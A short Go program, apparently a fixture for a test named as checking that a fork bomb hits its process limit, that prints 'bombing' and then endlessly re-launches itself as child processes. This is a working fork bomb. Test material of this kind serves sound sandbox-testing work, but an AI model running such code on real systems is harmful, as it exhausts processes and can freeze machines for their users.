// forkBombMeetsItsProcessLimitAndIsToldSo (HostileIT).
package main

import (
	"fmt"
	"os"
	"os/exec"
)

func main() {
	if len(os.Args) == 1 {
		fmt.Println("bombing")
	}
	for {
		exec.Command(os.Args[0], "child").Start()
	}
}
